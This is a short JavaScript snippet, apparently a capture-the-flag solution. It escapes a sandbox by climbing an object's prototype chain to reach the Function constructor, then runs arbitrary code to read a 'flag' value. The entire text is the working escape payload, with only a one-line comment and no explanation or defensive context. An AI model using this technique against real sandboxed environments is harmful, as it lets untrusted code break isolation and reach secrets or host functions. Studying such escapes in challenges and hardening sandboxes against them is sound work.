// The own property is no help, and what stands behind it is.
let top = shop;
while (Object.getPrototypeOf(top) !== null) top = Object.getPrototypeOf(top);
Object.getOwnPropertyDescriptor(top, "constructor").value.constructor("return flag")()
